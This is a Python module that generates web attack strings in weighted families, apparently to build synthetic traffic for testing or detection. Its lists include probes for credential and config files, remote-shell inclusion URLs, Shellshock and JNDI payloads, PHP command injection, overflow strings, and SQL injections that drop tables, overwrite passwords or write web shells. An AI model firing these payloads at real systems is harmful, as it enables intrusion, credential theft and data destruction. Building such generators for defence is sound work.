"""Probes, strange names and agents; and every family of attacks with its share."""

from .api_payloads import code, command, num, some, tag, template, traversal, xss
from .api_payloads_server import (
    crlf,
    directory,
    jndi,
    nosql,
    nosql_name,
    serialised,
    ssi,
    ssrf,
    xxe,
)
from .sql_values import number, pick, word


def wrapper(rng):
    text = pick(
        rng,
        [
            "php://filter/convert.base64-encode/resource={w}",
            "php://filter/read=convert.base64-encode/resource={w}.php",
            "php://input",
            "expect://{c}",
            "data://text/plain;base64,PD9waHAg{t}",
            "data:text/plain,<?php phpinfo();?>",
            "phar://{w}.zip/{w}.php",
            "zip://{w}.jpg#{w}",
            "file:///etc/passwd",
            "file:///c:/windows/win.ini",
            "http://{a}/cmd.txt?",
            "https://{a}/shell.txt",
            "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
            "ftp://{a}/shell.txt",
            "\\\\{a}\\{w}\\{w}.txt",
            "file://{w}",
            "glob:///*",
            "jar:file:///{w}.jar!/",
            "http://{a}/c99.txt?",
            "http://{a}/r57.txt?",
            "php://fd/3",
            "http://{a}/id.txt??",
            "compress.zlib://{w}.gz",
            "//{a}/{w}.txt%00",
            "view-source:file:///etc/passwd",
            "netdoc:///etc/passwd",
            "php%3a%2f%2finput",
            "http://cirt.net/rfiinc.txt?",
        ],
    )
    return some(rng, text)


PROBES = """/.git/config|/.git/HEAD|/.env|/.env.local|/{w}/.env|/.svn/entries|/.aws/credentials|/.ssh/id_rsa|/wp-config.php.bak|/wp-config.php~|/phpmyadmin/index.php|/pma/|/phpMyAdmin/scripts/setup.php
|/wp-admin/install.php|/wp-admin/setup-config.php|/wp-includes/wlwmanifest.xml|/{w}/wp-includes/wlwmanifest.xml|/administrator/index.php|/admin/config.php|/cgi-bin/test.cgi|/cgi-bin/luci|/cgi-bin/{w}.sh|/cgi-bin/.%2e/.%2e/bin/sh
|/manager/html|/jmx-console/|/actuator/env|/actuator/heapdump|/actuator/gateway/routes|/solr/admin/info/system|/_ignition/execute-solution|/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|/boaform/admin/formLogin|/GponForm/diag_Form|/HNAP1/
|/c99.php|/backup.sql|/dump.sql|/db.sql.gz|/backup.zip|/{w}.bak|/{w}.php~|/{w}.old|/config.php.swp|/.htaccess|/.htpasswd|/.DS_Store|/server-status|/phpinfo.php|/web.config|/WEB-INF/web.xml|/WEB-INF/classes/{w}.class
|/../../../../etc/passwd|/%2e%2e/%2e%2e/etc/passwd|/..;/manager/html|/static/..%2f..%2fetc/passwd|/cgi-bin/../../../../bin/sh|/icons/.%2e/%2e%2e/etc/passwd|/{w}.asp::$DATA|/{w}/%3f.jsp|/{w}.php/.{t}|/{w}%00.jsp|/\\..\\..\\windows\\win.ini|/{w}.jsp%20|/fckeditor/editor/filemanager/connectors/test.html
|/index.php?s=/index/\\think\\app/invokefunction|/druid/index.html|/nacos/v1/auth/users|/.vscode/sftp.json|/.idea/workspace.xml|/id_rsa|/etc/passwd|/proc/self/environ|/ecp/{w}.js|/owa/auth/{t}.js|/api/jsonws/invoke|/jenkins/script|/debug/pprof/heap|/trace.axd|/elmah.axd|/_vti_bin/shtml.dll|/scripts/root.exe|/msadc/..%255c../winnt/system32/cmd.exe
|/setup.cgi|/goform/{w}|/currentsetting.htm|/sdk/webLanguage|/evox/about|/remote/fgt_lang?lang=/../../../..//////////dev/|/dana-na/../dana/html5acc/guacamole/../../../etc/passwd|/{w}.php.bak|/crossdomain.xml.bak|/{w}/{w}.sql|/.bash_history|/.npmrc|/.dockerenv|/.travis.yml|/storage/logs/laravel.log""".replace(
    "\n", ""
).split("|")


def probe(rng):
    text = some(rng, pick(rng, PROBES))
    return "/" + text if rng.random() < 0.05 else text


def overflow(rng):
    return pick(
        rng,
        [
            pick(rng, "Ax%0") * 1 + "%n" * rng.randint(3, 20),
            "%s" * rng.randint(4, 20),
            "%x." * rng.randint(4, 20) + "%n",
            "\x90" * rng.randint(8, 40) + "\xcc\xeb",
            "%08x" * rng.randint(3, 9),
            "\\x90\\x90\\x90\\x90" * 4,
        ],
    )


def script_name(rng):
    return some(
        rng,
        pick(
            rng,
            [
                "{w}.php",
                "{w}.jsp",
                "{w}.aspx",
                "{w}.php5",
                "{w}.phtml",
                "{w}.jpg.php",
                "{w}.php.jpg",
                "{w}.php%00.jpg",
                "{w}.jspx",
                "{w}.asp;.jpg",
                "../../{w}.jsp",
                ".htaccess",
                "{w}.ashx",
                "{w}.php ",
                "{w}.pHp",
                "../{w}.php",
                "{w}.php/",
                "{w}.cer",
                "{w}.jsp::$DATA",
            ],
        ),
    )


def strange_name(rng):
    return some(
        rng,
        pick(
            rng,
            [
                "__proto__[{w}]",
                "constructor[prototype][{w}]",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                "class.classLoader.URLs[0]",
                "{w}['{c}']",
                "_method[__construct]",
                "('\\u0023context')",
                "redirect:${#a}",
                "{w};{c}",
                "<script>alert(1)</script>",
                "{w}' or '1'='1",
                "eval($_POST[{n}])",
                "#_memberAccess['{w}']",
                "{w}[$ne]",
                "__proto__.{w}",
                "{w}/../{w}",
                "GLOBALS[{w}]",
                "_SERVER[{w}]",
                "mosConfig_absolute_path",
                "class.module.classLoader.DefaultAssertionStatus",
                "name['__proto__']",
                "{w}`{c}`",
                "{w}\r\nX-{w}",
                "action:${{n}*{n}}",
                "debug=browser&object=(#mem)",
            ],
        ),
    )


def agent(rng):
    return some(
        rng,
        pick(
            rng,
            [
                "() { :; }; {c}",
                "() { ignored; }; /bin/bash -c '{c}'",
                "sqlmap/1.{n}#stable (http://sqlmap.org)",
                "Nikto/2.1.6",
                "<?php system('{c}');?>",
                "${jndi:ldap://{a}/{t}}",
                "Mozilla/5.0 <script>alert({n})</script>",
                "' or 1=1 --",
                "Mozilla/5.0' and sleep({n}) and '1'='1",
                "<img src=x onerror=alert(1)>",
                '}__test|O:21:"JDatabaseDriverMysqli":3',
                "{{7*7}}",
                "{c}",
                ";{c}",
                "../../../etc/passwd",
                "Mozilla/5.0'\"(",
                "1'\"",
                "Mozilla/5.0 (Windows NT 6.1) {w}');{c}//",
            ],
        ),
    )


def query(rng):
    """Injections as people write them by hand, with columns and tables that have names."""
    columns = ",".join(
        pick(
            rng,
            [
                "name",
                "pass",
                "password",
                "user",
                "email",
                "login",
                "id",
                "null",
                "1",
                "2",
                "3",
                "card",
                "version()",
                "user()",
                "database()",
                "@@version",
                "table_name",
                "group_concat(table_name)",
                "concat(user,0x3a,pass)",
                word(rng),
            ],
        )
        for _ in range(rng.randint(1, 6))
    )
    table = pick(
        rng,
        [
            "users",
            "admin",
            "accounts",
            "members",
            "information_schema.tables",
            "mysql.user",
            "dual",
            "customers",
            "user",
            "wp_users",
            "sqlite_master",
            word(rng),
        ],
    )
    end = pick(rng, ["--", "-- -", "-- ", "#", "--+", "/*", "", "", ";--", "%23", ")--"])
    start = pick(
        rng, ["", num(rng), f"-{num(rng)}", word(rng), "x", "admin", f"{word(rng)}@{word(rng)}.com"]
    )
    out = pick(rng, ["'", "'", "'", '"', "')", "'))", ")", "", ""])
    quote = pick(rng, ["'", '"', ""])
    n, t = num(rng), tag(rng)
    forms = [
        f"{start}{out} union {pick(rng, ['', '', 'all ', 'distinct '])}select {columns} from {table}{end}",
        f"{start}{out} union select {columns}{end}",
        f"{start}{out} union all select {columns} from {table} where {word(rng)}={n}{end}",
        f"{start}{out} or {n}={n}{end}",
        f"{start}{out} or '{t}'='{t}",
        f"{start}{out} or '{t}'='{t}'{end}",
        f"{start}{out} and {n}={num(rng)}{end}",
        f"{start}{out} or 1=1 limit 1{end}",
        f"{start}{out} or true{end}",
        f"{start}{out} or {quote}{word(rng)}{quote} like {quote}{word(rng)}%{quote}{end}",
        f"{start}{out} and (select count(*) from {table})>{n}{end}",
        f"{start}{out} and sleep({n}){end}",
        f"{start}{out} or sleep({n})='",
        f"{start}{out}; drop table {table}{end}",
        f"{start}{out}; insert into {table} values ({n},'{t}'){end}",
        f"{start}{out}; update {table} set password='{t}'{end}",
        f"{start}{out}; waitfor delay '0:0:{n}'{end}",
        f"{start}{out} order by {rng.randint(1, 40)}{end}",
        f"{start}{out} and ascii(substring((select {columns} from {table} limit 0,1),1,1))>{n}{end}",
        f"{start}{out} and extractvalue(1,concat(0x7e,(select {columns})))" + end,
        f"(select {columns} from {table} where {word(rng)}={n})",
        f"if(now()=sysdate(),sleep({n}),0)",
        f"{start}'{end}" if end.strip() else f"{start}' or ''='",
        f"{start}{out}||(select {columns} from {table})||'",
        f"{start}{out} procedure analyse(){end}",
        f"{start}{out} into outfile '/var/www/{word(rng)}.php'{end}",
        f"{start}{out} having 1=1{end}",
        f"{start}{out} and exists(select * from {table}){end}",
    ]
    text = pick(rng, forms)
    return pick(rng, [str.upper, str.lower, str.lower, str])(text) if rng.random() < 0.7 else text


FAMILIES = {
    "sql_injection": (query, 3),
    "xss": (xss, 5),
    "path_traversal": (traversal, 3),
    "command_injection": (command, 4),
    "code_injection": (code, 4),
    "template_injection": (template, 3),
    "jndi_injection": (jndi, 1),
    "xxe": (xxe, 1),
    "ssrf": (ssrf, 1),
    "crlf_injection": (crlf, 1),
    "ssi_injection": (ssi, 0.7),
    "nosql_injection": (nosql, 0.8),
    "ldap_injection": (directory, 0.7),
    "deserialization": (serialised, 1.2),
    "file_inclusion": (wrapper, 1),
    "overflow": (overflow, 0.2),
}

__all__ = ["FAMILIES", "agent", "nosql_name", "number", "probe", "script_name", "strange_name"]
